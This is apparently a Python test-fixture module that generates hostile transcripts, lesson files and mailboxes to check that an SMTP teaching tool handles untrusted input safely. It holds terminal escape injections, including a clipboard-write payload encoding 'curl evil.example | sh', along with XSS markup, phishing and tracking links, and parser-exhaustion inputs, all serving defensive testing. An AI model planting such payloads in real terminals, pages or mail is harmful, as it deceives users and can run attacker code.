"""The hostile-file corpus: transcripts, lesson folders and mailboxes a student could hand in.

Why this exists: everything smtp-shell reads from a file is untrusted (docs/security.md). The
corpus is written by code rather than kept as binary files, so each payload is readable here
and every field of every format gets every payload. `write_corpus(root)` returns the paths.

Payloads: terminal title (OSC 0), clipboard write (OSC 52), hyperlink (OSC 8), screen clear and
a fake green "250 Message saved", C1 controls (CSI and OSC as single bytes), bidi overrides and
isolates, NUL, rich markup, raw HTML and Markdown (script, image with onerror, tracking image,
phishing link). Bad values: a 5000-digit integer, NaN, Infinity, negative and huge times, 100,000
`[`, lone surrogates, a header-only file, lines of the wrong type.
"""

from __future__ import annotations

import json
from pathlib import Path

ESC_PAYLOADS = (
    "\x1b]0;PWNED-TITLE\x07",                          # set the terminal title
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",   # write the clipboard
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # a hidden hyperlink
    "\x1b[2J\x1b[H\x1b[32m250 2.0.0 Message saved\x1b[0m",    # clear the screen, fake a reply
    "\x9b31m\x9d0;C1-TITLE\x9c\x85",                    # the same as 8-bit C1 controls, NEL
    "\u202eevil\u202c \u2066iso\u2069 \u200f\u061c\u200b",  # bidi overrides, isolates, marks, ZWSP
    "nul\x00byte\x07bell\x08bs\rcr\x7fdel",
)
MARKUP_PAYLOADS = (
    "[bold red]RICH[/bold red] [link=https://evil.example/]rich-link[/link]",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "<img src=https://tracker.example/pixel.png> [click me](https://evil.example/login) "
    "![t](https://tracker.example/t.png) www.evil.example https://evil.example/ a@evil.example",
)
PAYLOAD = " | ".join(ESC_PAYLOADS + MARKUP_PAYLOADS)
LONE = "lone\ud800surrogate"


def _line(obj) -> str:
    return json.dumps(obj, ensure_ascii=True) + "\n"


def hostile_transcript(path: Path) -> Path:
    """A well-formed transcript with the payload in every string field of every event kind."""
    p = PAYLOAD
    header = {"format": "smtp-shell-transcript", "version": 1, "started": p, "timezone": p, "target": p,
              "tool_version": p, "lesson": p}
    events = [
        {"t": 0.0, "k": "note", "text": p},
        {"t": 0.1, "k": "connect", "target": p, "tls": False},
        {"t": 0.2, "k": "s", "text": f"220 {p}\r\n", "code": 220, "verb": None, "reply": "greeting"},
        {"t": 0.3, "k": "c", "text": f"EHLO {p}", "as": "command", "verb": "EHLO"},
        {"t": 0.4, "k": "s", "text": f"250-{p}\r\n250 AUTH PLAIN\r\n", "code": 250, "verb": "EHLO"},
        {"t": 0.5, "k": "c", "text": "AUTH PLAIN ********", "as": "command", "verb": "AUTH",
         "secret": "plain-initial", "user": p},
        {"t": 0.6, "k": "s", "text": f"235 {p}\r\n", "code": 235, "verb": "AUTH"},
        {"t": 0.7, "k": "c", "text": p, "as": "data"},
        {"t": 0.8, "k": "c", "text": ".", "as": "dot"},
        {"t": 0.9, "k": "s", "text": f"250 {p}\r\n", "code": 250, "verb": "<dot>"},
        {"t": 1.0, "k": "s", "b64": "NTUwIBtdNTI7YztZUT09BwrCm8Kd/w0K", "code": 550},
        {"t": 1.1, "k": "raw", "label": p, "text": p},
        {"t": 1.2, "k": "raw", "label": p, "b64": "G10wO3RpdGxlBw=="},
        {"t": 1.3, "k": "tls", "text": p, "info": {"version": p, "cipher": p, "subject": p, "issuer": p,
                                                 "not_before": p, "not_after": p, "verified": True,
                                                 "fingerprint_sha256": p, "server_hostname": p,
                                                 "self_signed": False}},
        {"t": 1.4, "k": "warn", "text": p},
        {"t": 1.5, "k": "error", "text": p, "hint": p},
        {"t": 1.6, "k": "marker", "text": p},
        {"t": 1.7, "k": "s", "text": f"334 {p}\r\n", "code": 334, "challenge": p},
        {"t": 1.8, "k": "close", "text": p},
        {"t": 1.9, "k": "end", "status": 0},
    ]
    path.write_text(_line(header) + "".join(_line(e) for e in events), encoding="utf-8")
    return path


def _header(**extra) -> dict:
    return {"format": "smtp-shell-transcript", "version": 1, "started": "2026-05-01T09:30:00.000Z",
            "target": "127.0.0.1:8025", **extra}


# name -> (the raw text of the file); each is bad in exactly one way
def bad_transcripts() -> dict[str, str]:
    h = json.dumps(_header()) + "\n"
    end = '{"t": 2, "k": "end"}\n'
    digits = "9" * 5000
    return {
        "int-5000-digits-t.jsonl": h + '{"t": ' + digits + ', "k": "note", "text": "x"}\n' + end,
        "int-5000-digits-code.jsonl": h + '{"t": 1, "k": "s", "text": "250 ok", "code": ' + digits + "}\n" + end,
        "int-5000-digits-version.jsonl": '{"format": "smtp-shell-transcript", "version": ' + digits
                                         + ', "started": "x"}\n' + end,
        "int-4000-digits-code.jsonl": h + '{"t": 1, "k": "s", "text": "250 ok", "code": ' + "9" * 4000 + "}\n" + end,
        "nan-t.jsonl": h + '{"t": NaN, "k": "note", "text": "x"}\n' + end,
        "infinite-t.jsonl": h + '{"t": Infinity, "k": "note", "text": "x"}\n' + end,
        "huge-t.jsonl": h + '{"t": 1e400, "k": "note", "text": "x"}\n' + end,
        "huge-finite-t.jsonl": h + '{"t": 1e300, "k": "note", "text": "x"}\n' + end,
        "negative-t.jsonl": h + '{"t": -5, "k": "note", "text": "x"}\n' + end,
        "brackets.jsonl": h + "[" * 100_000 + "\n" + end,
        "brackets-header.jsonl": "[" * 100_000 + "\n",
        "lone-surrogate-text.jsonl": h + '{"t": 1, "k": "note", "text": "a\\ud800b"}\n' + end,
        "lone-surrogate-started.jsonl": json.dumps(_header(started=LONE)) + "\n" + end,
        "lone-surrogate-label.jsonl": h + '{"t": 1, "k": "raw", "label": "\\udfff", "text": "x"}\n' + end,
        "wrong-type-label.jsonl": h + '{"t": 1, "k": "raw", "label": 5, "text": "x"}\n' + end,
        "code-negative.jsonl": h + '{"t": 1, "k": "s", "text": "250 ok", "code": -1}\n' + end,
        "tls-info-wrong.jsonl": h + '{"t": 1, "k": "tls", "info": {"version": 3}}\n' + end,
        "not-json.jsonl": h + "\x1b]52;c;ZXZpbA==\x07 not json\n" + end,
        "header-only-esc.jsonl": json.dumps(_header(target="\x1b]0;T\x07")) + "\n",
    }


def write_transcripts(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = [hostile_transcript(folder / "hostile-fields.jsonl"),
             hostile_transcript(folder / "\x1b]52;c;ZXZpbA==\x07name-\u202e.jsonl")]
    for name, text in bad_transcripts().items():
        path = folder / name
        path.write_text(text, encoding="utf-8", errors="surrogatepass")
        paths.append(path)
    return paths


# ---- lessons ---------------------------------------------------------------------------------

def _toml(text: str) -> str:
    """A TOML basic string holding `text` exactly (control characters as \\u escapes)."""
    return json.dumps(text, ensure_ascii=True)


def write_lessons(folder: Path) -> list[Path]:
    """An instructor's lesson folder: one good lesson, and one hostile file per field."""
    folder.mkdir(parents=True, exist_ok=True)
    good = 'title = "Good lesson"\ngoal = "Say hello"\nminutes = 5\nintro = "Hi."\n\n[[steps]]\n' \
           'title = "Greet"\ninstruction = "Send EHLO."\ncheck = { kind = "reply", verb = "EHLO", class = 2 }\n' \
           'hints = ["Type EHLO me"]\n'

    def lesson(title="T", goal="G", step_title="S", user="student", intro="Hi.") -> str:
        return (f"title = {_toml(title)}\ngoal = {_toml(goal)}\nminutes = 5\nintro = {_toml(intro)}\n\n"
                f"[lab]\nusers = {{ {_toml(user)} = \"pw\" }}\n\n[[steps]]\ntitle = {_toml(step_title)}\n"
                'instruction = "Send EHLO."\ncheck = { kind = "reply", verb = "EHLO", class = 2 }\n'
                'hints = ["Type EHLO me"]\n')

    files = {
        "01-good.toml": good,
        "02-title.toml": lesson(title=PAYLOAD),
        "03-goal.toml": lesson(goal=PAYLOAD),
        "04-step.toml": lesson(step_title=PAYLOAD),
        "05-user.toml": lesson(user="\x1b]52;c;ZXZpbA==\x07"),
        "06-intro.toml": lesson(intro=PAYLOAD),
        "07-\x1b]52;c;ZXZpbA==\x07\u202e.toml": lesson(),
        "08-broken-\x1b]0;T\x07.toml": "title = \x1b]0;T\x07 = =\n",
        "09-markup.toml": lesson(title=" ".join(MARKUP_PAYLOADS), goal="[bold]x[/bold] <b>y</b>"),
    }
    paths = []
    for name, text in files.items():
        path = folder / name
        path.write_text(text, encoding="utf-8")
        paths.append(path)
    return paths


# ---- mailboxes -------------------------------------------------------------------------------

def hostile_message() -> bytes:
    esc = "\x1b]52;c;ZXZpbA==\x07\x1b[2J"
    return (
        "From: =?utf-8?b?G10wO1RJVExFBw==?= <a@lab.test>\r\n"
        f"To: {esc}<b@lab.test>\r\n"
        f"Subject: \x1b]0;title\x07 \u202ehi\r\n"
        "MIME-Version: 1.0\r\n"
        f'Content-Type: multipart/mixed; boundary="b1"\r\n'
        "\r\n"
        "--b1\r\n"
        f'Content-Type: text/plain; charset="utf-8{esc}"\r\n'
        f"Content-Transfer-Encoding: 8bit{esc}\r\n"
        "\r\n"
        f"body {esc} \u202e text\r\n"
        "--b1\r\n"
        f'Content-Type: application/x-{esc}; name="{esc}.txt"\r\n'
        f'Content-Disposition: attachment; filename="\x1b]8;;https://evil.example\x1b\\f.txt"\r\n'
        f"Content-Transfer-Encoding: {esc}base64\r\n"
        "\r\n"
        "aGVsbG8=\r\n"
        "--b1--\r\n"
    ).encode()


def deeply_nested_message(depth: int = 3000) -> bytes:
    """Multiparts inside multiparts, deeper than Python's email parser can recurse."""
    opening = "".join(f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(depth))
    closing = "".join(f"--b{i}--\r\n" for i in reversed(range(depth)))
    return ("From: a@lab.test\r\nSubject: deep\r\nMIME-Version: 1.0\r\n" + opening
            + "Content-Type: text/plain\r\n\r\nhi\r\n" + closing).encode()


def write_mailbox(root: Path) -> Path:
    """A mailbox folder as the lab lays it out, with one hostile message (returned) and one
    nested too deeply to parse (row 2)."""
    folder = root / "b-lab.test"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "20260501T093000Z-000001.eml"
    path.write_bytes(hostile_message())
    (folder / "20260501T093000Z-000002.eml").write_bytes(deeply_nested_message())
    return path
